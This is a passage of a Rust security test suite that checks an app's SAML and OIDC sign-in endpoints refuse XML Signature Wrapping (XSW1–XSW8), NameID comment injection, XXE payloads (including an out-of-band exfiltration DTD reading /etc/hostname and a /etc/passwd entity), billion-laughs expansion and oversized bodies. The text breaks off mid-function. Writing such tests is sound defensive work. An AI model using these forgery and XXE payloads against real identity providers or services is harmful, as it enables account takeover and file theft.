//! Protocol attacks against the sign-in endpoints, each one refused (issue "Reliability and security suite").
//!
//! SAML: the eight XML Signature Wrapping variants XSW1–XSW8 (Somorovsky et al., "On Breaking SAML: Be Whoever
//! You Want to Be", 2012, built the way SAMLRaider builds them), comment injection in NameID and attribute
//! values, XXE and entity expansion in responses and IdP metadata, and oversized ACS bodies. OIDC: an HS256
//! token keyed with the provider's RSA public key (key confusion) and a replayed authorization code.
//!
//! Every forged message is built from a real message of a real peer (pysaml2 through saml_peer.rs, node
//! oidc-provider through oidc_peer.rs), and every test first shows that the genuine message is accepted, so a
//! refusal is the attack's and not an accident of the setup. Attacks that saml_protocol.rs, oidc_protocol.rs
//! or identity.rs already cover are not repeated here.

use std::collections::VecDeque;
use std::sync::{Arc, Mutex};

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use openssl::bn::BigNum;
use openssl::hash::MessageDigest;
use openssl::pkey::PKey;
use openssl::rsa::Rsa;
use openssl::sign::Signer;
use roster::clock::{Clock as _, Millis, SystemClock};
use roster::identity::oidc::{self, ClientConfig, OidcError, OidcProvider};
use roster::identity::saml::{
    DEFAULT_CLOCK_SKEW_MS, Expectations, IdpDescriptor, SamlError, SignedElement, SpConfig,
    VerifiedAssertion, authn_request_redirect, parse_idp_metadata, peek_in_response_to,
    verify_response,
};
use secrecy::SecretString;
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

use crate::helpers::{TestApp, assert_redirect_to, csrf_token_in, spawn_app};
use crate::identity::{app_with_saml, local_user};
use crate::oidc_peer::{self, OidcPeer};
use crate::saml_peer::SamlIdp;

const UPN: &str = "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn";
const GIVEN: &str = "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/givenname";
/// The identity every forged message tries to sign in as.
const EVIL: &str = "admin@evil.example";

fn now() -> Millis {
    SystemClock.now_ms()
}

fn b64(xml: &str) -> String {
    STANDARD.encode(xml.as_bytes())
}

// ---------------------------------------------------------------- SAML harness

struct Saml {
    idp: SamlIdp,
    sp: SpConfig,
    desc: IdpDescriptor,
}

/// A response of the peer: its XML and the id of the AuthnRequest it answers.
struct Signed {
    xml: String,
    request_id: String,
}

async fn saml() -> Saml {
    let sp = SpConfig::from_base_url("https://roster.test");
    let idp = SamlIdp::start(&sp.entity_id, &sp.acs_url).await;
    saml_with(idp, sp).await
}

async fn saml_with(idp: SamlIdp, sp: SpConfig) -> Saml {
    let desc = parse_idp_metadata(&idp.metadata_xml().await).unwrap();
    Saml { idp, sp, desc }
}

impl Saml {
    /// A response for `user`, signed as the switch `sign` says (assertion | response | both).
    async fn signed(&self, sign: &str, user: &str) -> Signed {
        self.idp.set(json!({ "sign": sign })).await;
        let out = authn_request_redirect(&self.sp, &self.desc.sso_url, "rs", now()).unwrap();
        let (response, _) = self.idp.response_for(&out.redirect_url, user).await;
        Signed {
            xml: String::from_utf8(STANDARD.decode(response).unwrap()).unwrap(),
            request_id: out.request_id,
        }
    }

    fn verify(&self, s: &Signed, xml: &str) -> Result<VerifiedAssertion, SamlError> {
        verify_response(
            &b64(xml),
            &Expectations {
                sp: &self.sp,
                idp_entity_id: &self.desc.entity_id,
                trusted_certs: &self.desc.signing_certs,
                expected_request_id: &s.request_id,
                now: now(),
                clock_skew_ms: DEFAULT_CLOCK_SKEW_MS,
            },
        )
    }
}

/// The byte range of the first element with local name `local` (any prefix), and its prefix.
fn span(xml: &str, local: &str) -> (usize, usize, String) {
    let colon = [format!(":{local} "), format!(":{local}>")]
        .iter()
        .filter_map(|needle| xml.find(needle.as_str()))
        .min()
        .unwrap_or_else(|| panic!("no {local} in {xml}"));
    let start = xml[..colon].rfind('<').unwrap();
    let prefix = xml[start + 1..colon].to_owned();
    let close = format!("</{prefix}:{local}>");
    let end = xml[start..].find(&close).unwrap() + start + close.len();
    (start, end, prefix)
}

/// `element` without its first ds:Signature child.
fn without_signature(element: &str) -> String {
    let (s, e, _) = span(element, "Signature");
    format!("{}{}", &element[..s], &element[e..])
}

/// The value of the first `ID` attribute (the element's own, for an element's text).
fn first_id(element: &str) -> String {
    let at = element.find(" ID=\"").unwrap() + 5;
    let end = element[at..].find('"').unwrap() + at;
    element[at..end].to_owned()
}

/// `element` with its own (first) `ID` attribute replaced.
fn with_id(element: &str, id: &str) -> String {
    let at = element.find(" ID=\"").unwrap() + 5;
    let end = element[at..].find('"').unwrap() + at;
    format!("{}{id}{}", &element[..at], &element[end..])
}

/// SAMLRaider's "match and replace": alice becomes the attacker's identity everywhere in `element`.
fn evilize(element: &str) -> String {
    let out = element
        .replace("alice@example.com", EVIL)
        .replace(">Alice<", ">Evil<");
    assert!(out.contains(EVIL), "nothing to replace in {element}");
    out
}

/// `element` with `child` inserted as its last child (before the closing tag of the outermost element).
fn append_child(element: &str, child: &str) -> String {
    let close = element.rfind("</").unwrap();
    format!("{}{child}{}", &element[..close], &element[close..])
}

/// `element` with `child` appended inside its first ds:Signature.
fn append_to_signature(element: &str, child: &str) -> String {
    let (s, e, _) = span(element, "Signature");
    format!(
        "{}{}{}",
        &element[..s],
        append_child(&element[s..e], child),
        &element[e..]
    )
}

/// A wrapping attack is defeated when it is refused, or when only the genuinely signed assertion (alice's,
/// with the signed id) comes out. The outcome is returned so that each test can pin the exact one.
fn assert_defeated(
    variant: &str,
    result: Result<VerifiedAssertion, SamlError>,
    signed_id: &str,
) -> Result<SignedElement, SamlError> {
    eprintln!(
        "{variant}: {:?}",
        result.as_ref().map(|a| (&a.assertion_id, &a.name_id))
    );
    let a = result?;
    assert!(
        !format!("{a:?}").contains("evil"),
        "{variant} ACCEPTED THE ATTACKER'S CONTENT: {a:?}"
    );
    assert_eq!(a.name_id.as_deref(), Some("alice@example.com"), "{variant}");
    assert_eq!(a.attribute(UPN), Some("alice@example.com"), "{variant}");
    assert_eq!(a.attribute(GIVEN), Some("Alice"), "{variant}");
    assert_eq!(a.assertion_id, signed_id, "{variant}");
    Ok(a.signed_element)
}

/// The forged document must really carry the attacker's identity and the genuine signature.
fn assert_forged(variant: &str, forged: &str, original: &str) {
    assert_ne!(forged, original, "{variant}");
    assert!(forged.contains(EVIL), "{variant}: {forged}");
    assert!(forged.contains("SignatureValue>"), "{variant}");
}

// ---------------------------------------------------------------- XSW1, XSW2 (Response signature)

/// The signed Response (`xml`) as SAMLRaider's XSW1/XSW2 rebuild it: the root becomes the attacker's Response
/// (new ID, evil content, the original signature kept) and an unsigned copy of the genuine Response, which the
/// signature's Reference now finds, is placed inside the signature (XSW1) or just before it (XSW2).
fn xsw_response(xml: &str, inside_signature: bool) -> String {
    let (start, end, _) = span(xml, "Response");
    let genuine = &xml[start..end];
    let copy = without_signature(genuine);
    let evil = with_id(&evilize(genuine), "_evil_response_ID");
    let wrapped = if inside_signature {
        append_to_signature(&evil, &copy)
    } else {
        let (s, _, _) = span(&evil, "Signature");
        format!("{}{copy}{}", &evil[..s], &evil[s..])
    };
    format!("{}{wrapped}{}", &xml[..start], &xml[end..])
}

/// XSW1: evil Response at the root, the genuine signed Response copied into its ds:Signature.
#[tokio::test]
async fn xsw1_genuine_response_inside_the_signature_of_an_evil_response() {
    let c = saml().await;
    let s = c.signed("response", "alice").await;
    let signed_id = first_id(&s.xml[span(&s.xml, "Assertion").0..]);
    assert_eq!(
        c.verify(&s, &s.xml).map(|a| a.signed_element),
        Ok(SignedElement::Response)
    );
    let forged = xsw_response(&s.xml, true);
    assert_forged("XSW1", &forged, &s.xml);

    let outcome = assert_defeated("XSW1", c.verify(&s, &forged), &signed_id);

    assert_eq!(outcome, Err(SamlError::BadSignature));
}

/// XSW2: evil Response at the root, the genuine signed Response copied just before its (now detached)
/// ds:Signature.
#[tokio::test]
async fn xsw2_genuine_response_beside_a_detached_signature_in_an_evil_response() {
    let c = saml().await;
    let s = c.signed("response", "alice").await;
    let signed_id = first_id(&s.xml[span(&s.xml, "Assertion").0..]);
    let forged = xsw_response(&s.xml, false);
    assert_forged("XSW2", &forged, &s.xml);

    let outcome = assert_defeated("XSW2", c.verify(&s, &forged), &signed_id);

    assert_eq!(outcome, Err(SamlError::BadSignature));
}

// ---------------------------------------------------------------- XSW3 – XSW8 (Assertion signature)

/// The parts of an assertion-signed response that XSW3–XSW8 recombine.
struct AssertionParts<'a> {
    before: &'a str,
    genuine: &'a str,
    after: &'a str,
    id: String,
}

fn assertion_parts(xml: &str) -> AssertionParts<'_> {
    let (start, end, _) = span(xml, "Assertion");
    let genuine = &xml[start..end];
    assert!(
        genuine.contains("SignatureValue>"),
        "the assertion is signed"
    );
    AssertionParts {
        before: &xml[..start],
        genuine,
        after: &xml[end..],
        id: first_id(genuine),
    }
}

/// Builds one of XSW3–XSW8 from an assertion-signed response, as SAMLRaider does.
fn xsw_assertion(xml: &str, variant: u8) -> String {
    let p = assertion_parts(xml);
    let copy = without_signature(p.genuine);
    let (before, after) = (p.before, p.after);
    match variant {
        // XSW3: an unsigned evil assertion (new ID) before the genuine signed one.
        3 => {
            let evil = with_id(&evilize(&copy), "_evil_assertion_ID");
            format!("{before}{evil}{}{after}", p.genuine)
        }
        // XSW4: the genuine signed assertion moved inside an unsigned evil one (new ID).
        4 => {
            let evil = with_id(&evilize(&copy), "_evil_assertion_ID");
            format!("{before}{}{after}", append_child(&evil, p.genuine))
        }
        // XSW5: the evil assertion (new ID) keeps the genuine signature; an unsigned copy of the genuine
        // assertion, which the signature's Reference now finds, is appended to the Response.
        5 => {
            let evil = with_id(&evilize(p.genuine), "_evil_assertion_ID");
            format!("{before}{evil}{copy}{after}")
        }
        // XSW6: as XSW5, with the genuine copy inside the evil assertion's signature.
        6 => {
            let evil = with_id(&evilize(p.genuine), "_evil_assertion_ID");
            format!("{before}{}{after}", append_to_signature(&evil, &copy))
        }
        // XSW7: an unsigned evil assertion with the genuine ID inside an (unqualified) Extensions element,
        // before the genuine signed assertion.
        7 => {
            let evil = evilize(&copy);
            format!(
                "{before}<Extensions>{evil}</Extensions>{}{after}",
                p.genuine
            )
        }
        // XSW8: the evil assertion keeps the genuine ID and signature; an unsigned copy of the genuine one sits
        // in an (unqualified) Object element inside that signature.
        8 => {
            let evil = evilize(p.genuine);
            let object = format!("<Object>{copy}</Object>");
            format!("{before}{}{after}", append_to_signature(&evil, &object))
        }
        _ => unreachable!("XSW{variant}"),
    }
}

/// Runs XSW`variant` against a fresh assertion-signed response of alice and returns the outcome.
async fn run_xsw_assertion(variant: u8) -> Result<SignedElement, SamlError> {
    let c = saml().await;
    let s = c.signed("assertion", "alice").await;
    assert_eq!(
        c.verify(&s, &s.xml).map(|a| a.signed_element),
        Ok(SignedElement::Assertion),
        "the genuine response is accepted"
    );
    let signed_id = assertion_parts(&s.xml).id;
    let forged = xsw_assertion(&s.xml, variant);
    let name = format!("XSW{variant}");
    assert_forged(&name, &forged, &s.xml);
    assert_defeated(&name, c.verify(&s, &forged), &signed_id)
}

/// XSW3: an unsigned evil assertion placed before the signed one (the shape of
/// saml_protocol::saml_wrapping_extra_unsigned_assertion_beside_signed_one, here built as SAMLRaider does).
#[tokio::test]
async fn xsw3_evil_assertion_before_the_signed_one() {
    assert_eq!(run_xsw_assertion(3).await, Ok(SignedElement::Assertion));
}

/// XSW4: the signed assertion nested inside an unsigned evil assertion.
#[tokio::test]
async fn xsw4_signed_assertion_nested_in_an_evil_assertion() {
    assert_eq!(run_xsw_assertion(4).await, Ok(SignedElement::Assertion));
}

/// XSW5: the evil assertion carries the genuine signature; the genuine content follows unsigned.
#[tokio::test]
async fn xsw5_evil_assertion_keeps_the_signature_genuine_copy_appended() {
    assert_eq!(run_xsw_assertion(5).await, Ok(SignedElement::Assertion));
}

/// XSW6: the evil assertion carries the genuine signature, with the genuine content inside that signature.
#[tokio::test]
async fn xsw6_genuine_copy_inside_the_signature_of_an_evil_assertion() {
    assert_eq!(run_xsw_assertion(6).await, Err(SamlError::BadSignature));
}

/// XSW7: an evil assertion with the genuine ID inside an Extensions element before the signed one.
#[tokio::test]
async fn xsw7_evil_assertion_in_extensions_with_the_genuine_id() {
    assert_eq!(run_xsw_assertion(7).await, Err(SamlError::BadSignature));
}

/// XSW8: the evil assertion keeps the genuine ID and signature; the genuine content hides in an Object.
#[tokio::test]
async fn xsw8_genuine_copy_in_an_object_inside_the_evil_assertions_signature() {
    assert_eq!(run_xsw_assertion(8).await, Err(SamlError::BadSignature));
}

// ---------------------------------------------------------------- comment injection

/// `xml` with `marker` inserted after `prefix` inside the text `{prefix}{rest}` of the NameID and of every
/// AttributeValue that holds exactly that text.
fn split_values(xml: &str, prefix: &str, rest: &str, marker: &str) -> String {
    let whole = format!(">{prefix}{rest}</");
    let split = format!(">{prefix}{marker}{rest}</");
    let n = xml.matches(&whole).count();
    assert!(n >= 2, "NameID and UPN hold {prefix}{rest}: {xml}");
    xml.replace(&whole, &split)
}

/// What a comment-injected response yields: `Ok(())` when the value was read whole, the refusal otherwise.
/// A value read as anything but `whole` (in the NameID or the UPN attribute) fails the test at once.
fn read_whole(
    case: &str,
    result: Result<VerifiedAssertion, SamlError>,
    whole: &str,
) -> Result<(), SamlError> {
    eprintln!("{case}: {:?}", result.as_ref().map(|a| &a.name_id));
    let a = result?;
    assert_eq!(
        a.name_id.as_deref(),
        Some(whole),
        "{case}: NameID TRUNCATED"
    );
    assert_eq!(a.attribute(UPN), Some(whole), "{case}: UPN TRUNCATED");
    Ok(())
}

/// Comment injection (Duo Labs, 2018): `alice@exa<!---->mple.com` in the NameID and the UPN attribute of a
/// signed response. Exclusive c14n drops comments (and CDATA boundaries), so xmlsec's digest still matches;
/// the value must never be read as a part. Outcome: samael maps the canonical (comment-free) text back onto the
/// document, finds a split text node and refuses the whole response as BadSignature, so the joined-text
/// reading in xml.rs is a second line that is never reached.
#[tokio::test]
async fn comment_inside_name_id_does_not_truncate_the_value() {
    let c = saml().await;
    for sign in ["assertion", "response"] {
        let s = c.signed(sign, "alice").await;
        assert!(c.verify(&s, &s.xml).is_ok(), "{sign}: the genuine response");
        for marker in ["<!---->", "<!-- x -->", "<![CDATA[]]>"] {
            let forged = split_values(&s.xml, "alice@exa", "mple.com", marker);
            let case = format!("{sign}/{marker}");

            let outcome = read_whole(&case, c.verify(&s, &forged), "alice@example.com");

            assert_eq!(outcome, Err(SamlError::BadSignature), "{case}");
        }
    }
}

/// Comment injection, the dangerous direction: the IdP signs `admin@example.com.evil.example` (a user of another
/// domain) and the attacker splits it as `admin@example.com<!---->.evil.example`. A reader that takes the first
/// text node would sign the attacker in as `admin@example.com`. Refused as BadSignature (see above).
#[tokio::test]
async fn comment_inside_name_id_cannot_shorten_it_to_another_user() {
    let sp = SpConfig::from_base_url("https://roster.test");
    let users = json!({
        "mallory": { "upn": "admin@example.com.evil.example", "givenname": "Mallory" }
    })
    .to_string();
    let idp = SamlIdp::start_with_users(&sp.entity_id, &sp.acs_url, &users).await;
    let c = saml_with(idp, sp).await;
    for sign in ["assertion", "response", "both"] {
        let s = c.signed(sign, "mallory").await;
        let genuine = c.verify(&s, &s.xml).unwrap();
        assert_eq!(
            genuine.name_id.as_deref(),
            Some("admin@example.com.evil.example")
        );
        let forged = split_values(&s.xml, "admin@example.com", ".evil.example", "<!---->");

        let outcome = read_whole(
            sign,
            c.verify(&s, &forged),
            "admin@example.com.evil.example",
        );

        assert_eq!(outcome, Err(SamlError::BadSignature), "{sign}");
    }
}

// ---------------------------------------------------------------- XXE and entity expansion

/// A listener that an external entity or DTD would be fetched from; it must never be contacted.
struct Tripwire(std::net::TcpListener);

impl Tripwire {
    fn new() -> Self {
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        l.set_nonblocking(true).unwrap();
        Self(l)
    }

    fn url(&self, file: &str) -> String {
        format!("http://{}/{file}", self.0.local_addr().unwrap())
    }

    fn assert_untouched(&self) {
        match self.0.accept() {
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
            other => panic!("something fetched the attacker's DTD or entity: {other:?}"),
        }
    }
}

fn billion_laughs() -> String {
    let mut dtd = String::from("<!ENTITY lol0 \"lol\">");
    for i in 1..10 {
        dtd.push_str(&format!(
            "<!ENTITY lol{i} \"{}\">",
            format!("&lol{};", i - 1).repeat(10)
        ));
    }
    dtd
}

/// `doc` (which starts with an XML declaration) with `doctype` placed after the declaration, and `&name;`
/// references (when `entity` is given) in place of the text `alice@example.com`.
fn with_doctype(doc: &str, doctype: &str, entity: Option<&str>) -> String {
    let body = doc.trim_start_matches('\u{feff}');
    let (decl, rest) = match body.strip_prefix("<?xml") {
        Some(_) => {
            let end = body.find("?>").unwrap() + 2;
            (&body[..end], &body[end..])
        }
        None => ("", body),
    };
    let rest = match entity {
        Some(e) => rest.replacen("alice@example.com", &format!("&{e};"), 1),
        None => rest.to_owned(),
    };
    format!("{decl}\n{doctype}{rest}")
}

fn utf16(text: &str, big_endian: bool, bom: bool) -> Vec<u8> {
    let mut out = Vec::new();
    let units = (if bom { "\u{feff}" } else { "" })
        .encode_utf16()
        .chain(text.encode_utf16());
    for u in units {
        out.extend(if big_endian {
            u.to_be_bytes()
        } else {
            u.to_le_bytes()
        });
    }
    out
}

/// The hostile prologs tried against responses and metadata: (name, DOCTYPE, entity referenced in the body).
fn hostile_doctypes(trip: &Tripwire) -> Vec<(&'static str, String, Option<&'static str>)> {
    vec![
        (
            "parameter entity to an external DTD",
            format!(
                "<!DOCTYPE r [<!ENTITY % ext SYSTEM \"{}\"> %ext;]>",
                trip.url("param.dtd")
            ),
            None,
        ),
        (
            "parameter entity defining a general entity (OOB exfiltration shape)",
            format!(
                "<!DOCTYPE r [<!ENTITY % file SYSTEM \"file:///etc/hostname\"><!ENTITY % wrap \"<!ENTITY &#x25; send SYSTEM '{}?%file;'>\"> %wrap; %send;]>",
                trip.url("oob")
            ),
            None,
        ),
        (
            "external DTD through SYSTEM",
            format!("<!DOCTYPE Response SYSTEM \"{}\">", trip.url("evil.dtd")),
            None,
        ),
        (
            "external DTD through PUBLIC",
            format!(
                "<!DOCTYPE Response PUBLIC \"-//EVIL//DTD\" \"{}\">",
                trip.url("public.dtd")
            ),
            None,
        ),
        (
            "external general entity",
            format!(
                "<!DOCTYPE r [<!ENTITY xxe SYSTEM \"{}\">]>",
                trip.url("xxe")
            ),
            Some("xxe"),
        ),
        (
            "billion laughs in the internal subset",
            format!("<!DOCTYPE r [{}]>", billion_laughs()),
            Some("lol9"),
        ),
        (
            "quadratic blow-up (one large entity used many times)",
            format!("<!DOCTYPE r [<!ENTITY a \"{}\">]>", "a".repeat(50_000)),
            Some("a"),
        ),
        (
            "lower-case doctype after a comment",
            "<!-- hello --><!doctype r [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>".to_owned(),
            Some("xxe"),
        ),
    ]
}

/// XXE and entity expansion in a SAMLResponse: parameter entities, an external DTD (SYSTEM and PUBLIC),
/// external general entities, billion laughs and a quadratic blow-up, each after the XML declaration of a
/// genuinely signed response, are refused as DoctypeForbidden by the strict reader (by verify_response and by
/// peek_in_response_to, which the ACS calls first), and nothing is fetched.
/// (A plain SYSTEM entity and the billion laughs at the document start are in saml_protocol.rs.)
#[tokio::test]
async fn xxe_and_entity_expansion_in_the_saml_response_are_refused_before_parsing() {
    let c = saml().await;
    let s = c.signed("assertion", "alice").await;
    assert!(c.verify(&s, &s.xml).is_ok());
    let trip = Tripwire::new();
    for (name, doctype, entity) in hostile_doctypes(&trip) {
        let hostile = with_doctype(&s.xml, &doctype, entity);
        assert!(hostile.starts_with("<?xml"), "{name}");

        assert_eq!(
            c.verify(&s, &hostile),
            Err(SamlError::DoctypeForbidden),
            "{name}"
        );
        assert_eq!(
            peek_in_response_to(&b64(&hostile)),
            Err(SamlError::DoctypeForbidden),
            "{name}"
        );
    }
    trip.assert_untouched();
}

/// The same response with a DOCTYPE and external entity, encoded as UTF-16 (LE and BE, with and without a BOM,
/// and with a declaration naming UTF-16): never read as XML, refused as Malformed, nothing fetched.
#[tokio::test]
async fn utf16_encoded_doctype_in_the_saml_response_is_refused() {
    let c = saml().await;
    let s = c.signed("assertion", "alice").await;
    let trip = Tripwire::new();
    let doctype = format!(
        "<!DOCTYPE r [<!ENTITY xxe SYSTEM \"{}\">]>",
        trip.url("utf16")
    );
    let hostile = with_doctype(&s.xml, &doctype, Some("xxe")).replacen(
        "<?xml version=\"1.0\"?>",
        "<?xml version=\"1.0\" encoding=\"UTF-16\"?>",
        1,
    );
    for big_endian in [false, true] {
        for bom in [false, true] {
            let bytes = utf16(&hostile, big_endian, bom);
            let encoded = STANDARD.encode(&bytes);

            let verified = verify_response(
                &encoded,
                &Expectations {
                    sp: &c.sp,
                    idp_entity_id: &c.desc.entity_id,
                    trusted_certs: &c.desc.signing_certs,
                    expected_request_id: &s.request_id,
                    now: now(),
                    clock_skew_ms: DEFAULT_CLOCK_SKEW_MS,
                },
            );

            let case = format!("big_endian={big_endian} bom={bom}");
            assert!(
                matches!(verified, Err(SamlError::Malformed(_))),
                "{case}: {verified:?}"
            );
            assert!(
                matches!(peek_in_response_to(&encoded), Err(SamlError::Malformed(_))),
                "{case}"
            );
        }
    }
    // The same text in UTF-8 is a DOCTYPE: the UTF-16 refusal above is the encoding's, not an accident.
    assert_eq!(c.verify(&s, &hostile), Err(SamlError::DoctypeForbidden));
    trip.assert_untouched();
}

/// XXE and entity expansion in IdP metadata (parse_idp_metadata): the same hostile prologs after the XML
/// declaration of the peer's real metadata are refused as DoctypeForbidden; UTF-16 metadata is not metadata.
/// (A DOCTYPE with a SYSTEM entity before the root is in saml_protocol.rs.)
#[tokio::test]
async fn xxe_and_entity_expansion_in_idp_metadata_are_refused() {
    let c = saml().await;
    let metadata = c.idp.metadata_xml().await;
    assert!(metadata.starts_with("<?xml"), "{metadata}");
    assert!(parse_idp_metadata(&metadata).is_ok());
    let trip = Tripwire::new();
    for (name, doctype, entity) in hostile_doctypes(&trip) {
        let entity = entity.map(|e| (e, format!("&{e};")));
        let mut hostile = with_doctype(&metadata, &doctype, None);
        if let Some((_, reference)) = &entity {
            // The entity stands for the entity id, as an attacker would use it.
            hostile = hostile.replacen(&c.desc.entity_id, reference, 1);
            assert!(hostile.contains(reference.as_str()), "{name}");
        }

        assert_eq!(
            parse_idp_metadata(&hostile),
            Err(SamlError::DoctypeForbidden),
            "{name}"
        );
    }
    let hostile = with_doctype(
        &metadata,
        &format!("<!DOCTYPE r SYSTEM \"{}\">", trip.url("md16.dtd")),
        None,
    );
    for big_endian in [false, true] {
        // As fetch_metadata would hand it over: the bytes, when they happen to be valid UTF-8 (no BOM).
        let bytes = utf16(&hostile, big_endian, false);
        let text = String::from_utf8(bytes).expect("UTF-16 of ASCII without a BOM is valid UTF-8");

        let parsed = parse_idp_metadata(&text);

        assert!(
            matches!(parsed, Err(SamlError::InvalidMetadata(_))),
            "big_endian={big_endian}: {parsed:?}"
        );
    }
    trip.assert_untouched();
}

// ---------------------------------------------------------------- oversized ACS bodies

async fn audit_count(app: &TestApp) -> i64 {
    app.count("audit_events").await
}

async fn answered_requests(app: &TestApp) -> i64 {
    sqlx::query_scalar("SELECT COUNT(*) FROM sso_requests WHERE answered_at IS NOT NULL")
        .fetch_one(&app.db.pool)
        .await
        .unwrap()
}

/// Starts a sign-in in `browser` and returns the IdP's genuine SAMLResponse (not yet posted).
async fn pending_saml_response(app: &TestApp, browser: &reqwest::Client, idp: &SamlIdp) -> String {
    let login = browser
        .get(app.url("/login"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let csrf = csrf_token_in(&login);
    let resp = browser
        .post(app.url("/sso/start"))
        .form(&[("csrf_token", csrf.as_str())])
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status().as_u16(), 303);
    let to_idp = resp.headers()["location"].to_str().unwrap().to_owned();
    idp.response_for(&to_idp, "alice").await.0
}

/// Oversized body: a genuine SAMLResponse padded with whitespace (which the base64 reader would skip) to more
/// than MAX_FORM_BYTES is refused with 413 before any handler runs: no audit row, the pending sign-in is still
/// unanswered, and the same response without padding is then accepted.
#[tokio::test]
async fn acs_body_over_the_form_limit_is_refused_with_413_and_records_nothing() {
    let (app, idp) = app_with_saml(true).await;
    local_user(&app, "alice@example.com", "alice@example.com").await;
    app.create_admin("alice@example.com", "another-long-password")
        .await;
    let browser = app.new_client();
    let genuine = pending_saml_response(&app, &browser, &idp).await;
    let padded = format!(
        "{genuine}{}",
        " ".repeat(roster::startup::MAX_FORM_BYTES + 1024)
    );
    let (audit_before, sso_before) = (audit_count(&app).await, app.count("sso_requests").await);
    let answered_before = answered_requests(&app).await;

    let resp = browser
        .post(app.url("/saml/acs"))
        .form(&[("SAMLResponse", padded.as_str())])
        .send()
        .await
        .unwrap();

    assert_eq!(resp.status().as_u16(), 413);
    assert_eq!(audit_count(&app).await, audit_before, "nothing audited");
    assert_eq!(app.count("sso_requests").await, sso_before);
    assert_eq!(
        answered_requests(&app).await,
        answered_before,
        "the sign-in is not answered"
    );
    let ok = browser
        .post(app.url("/saml/acs"))
        .form(&[("SAMLResponse", genuine.as_str())])
        .send()
        .await
        .unwrap();
    assert_eq!(
        ok.status().as_u16(),
        303,
        "the genuine response still works"
    );
    assert_eq!(answered_requests(&app).await, answered_before + 1);
}

/// Oversized SAMLResponse under the form limit: 1.5 MiB of base64 that is not XML is refused with 400 and the
/// plain refusal page (code `malformed`), without echoing it; no sign-in is answered.
#[tokio::test]
async fn acs_large_non_xml_blob_under_the_limit_is_refused_with_400() {
    let (app, _idp) = app_with_saml(true).await;
    let blob = STANDARD.encode(vec![0x5a_u8; 1024 * 1024 + 512 * 1024]);
    let blob = &blob[..1024 * 1024 + 512 * 1024];
    assert!(blob.len() + 64 < roster::startup::MAX_FORM_BYTES);
    let (sso_before, answered_before) = (
        app.count("sso_requests").await,
        answered_requests(&app).await,
    );

    let resp = app
        .new_client()
        .post(app.url("/saml/acs"))
        .form(&[("SAMLResponse", blob)])
        .send()
        .await
        .unwrap();

    assert_eq!(resp.status().as_u16(), 400);
    let page = resp.text().await.unwrap();
    assert!(
        page.contains("data-test=\"sso-refused\""),
        "{}",
        &page[..page.len().min(2000)]
    );
    assert!(
        page.contains("data-code=\"malformed\""),
        "{}",
        &page[..page.len().min(2000)]
    );
    assert!(
        page.len() < 64 * 1024,
        "the blob is not echoed ({} bytes)",
        page.len()
    );
    assert!(!page.contains("WlpaWlpa"), "the blob is not echoed");
    assert_eq!(app.count("sso_requests").await, sso_before);
    assert_eq!(answered_requests(&app).await, answered_before);
    let refused: i64 = sqlx::query_scalar(
        "SELECT COUNT(*) FROM audit_events WHERE action = 'identity.sign_in_refused'",
    )
    .fetch_one(&app.db.pool)
    .await
    .unwrap();
    assert_eq!(refused, 1, "the refusal itself is audited, once");
}

// ---------------------------------------------------------------- OIDC harness

const CLIENT_ID: &str = "roster-test-client";
const CLIENT_SECRET: &str = "a-long-client-secret-for-the-oidc-peer-0123456789";
const TENANT: &str = "4f0c7c2e-6b1a-4d51-9d0f-2b2a3c4d5e6f";

fn oidc_accounts() -> String {
    json!({
        "alice": {
            "oid": "9a1b2c3d-0000-4000-8000-00000000a11c", "tid": TENANT,
            "preferred_username": "alice@contoso.test", "name": "Alice Adams", "email": "alice@contoso.test"
        }
    })
    .to_string()
}

struct Rp {
    peer: OidcPeer,
    http: reqwest::Client,
    provider: OidcProvider,
    client: ClientConfig,
}

async fn rp() -> Rp {
    let redirect_uri = "http://127.0.0.1:9/oidc/callback";
    let peer = oidc_peer::start(CLIENT_ID, CLIENT_SECRET, redirect_uri, &oidc_accounts()).await;
    let http = oidc::http_client().unwrap();
    let provider = oidc::discover(&http, &peer.issuer).await.unwrap();
    Rp {
        peer,
        http,
        provider,
        client: ClientConfig {
            client_id: CLIENT_ID.into(),
            client_secret: SecretString::from(CLIENT_SECRET),
            redirect_uri: redirect_uri.into(),
            allowed_tenants: vec![TENANT.into()],
        },
    }
}

impl Rp {
    async fn sign_in(&self) -> (oidc::AuthStart, oidc::Callback) {
        let started = oidc::start(&self.provider, &self.client, None).unwrap();
        let back = self
            .peer
            .login_without_browser(&started.authorize_url, "alice")
            .await;
        (started, oidc::parse_callback(&back).unwrap())
    }

    /// Redeems `code` at the peer's token endpoint directly and returns the raw ID token it issues.
    async fn raw_id_token(&self, started: &oidc::AuthStart, code: &str) -> String {
        let resp: Value = self
            .http
            .post(&self.provider.token_endpoint)
            .basic_auth(CLIENT_ID, Some(CLIENT_SECRET))
            .form(&[
                ("grant_type", "authorization_code"),
                ("code", code),
                ("redirect_uri", self.client.redirect_uri.as_str()),
                ("code_verifier", started.pkce_verifier.as_str()),
            ])
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        resp["id_token"]
            .as_str()
            .unwrap_or_else(|| panic!("no id_token: {resp}"))
            .to_owned()
    }
}

/// A token endpoint on 127.0.0.1 that answers each request with the next of `bodies` (JSON), so that a forged
/// ID token reaches `oidc::finish` exactly as a provider's answer would. Returns its URL.
async fn token_endpoint_stub(bodies: Vec<Value>) -> String {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}/token", listener.local_addr().unwrap());
    let queue = Arc::new(Mutex::new(VecDeque::from(bodies)));
    tokio::spawn(async move {
        while let Ok((mut sock, _)) = listener.accept().await {
            let queue = queue.clone();
            tokio::spawn(async move {
                let mut buf = Vec::new();
                let mut chunk = [0_u8; 4096];
                loop {
                    let n = sock.read(&mut chunk).await.unwrap_or(0);
                    if n == 0 {
                        return;
                    }
                    buf.extend_from_slice(&chunk[..n]);
                    let text = String::from_utf8_lossy(&buf).to_string();
                    if let Some(head_end) = text.find("\r\n\r\n") {
                        let length = text[..head_end]
                            .lines()
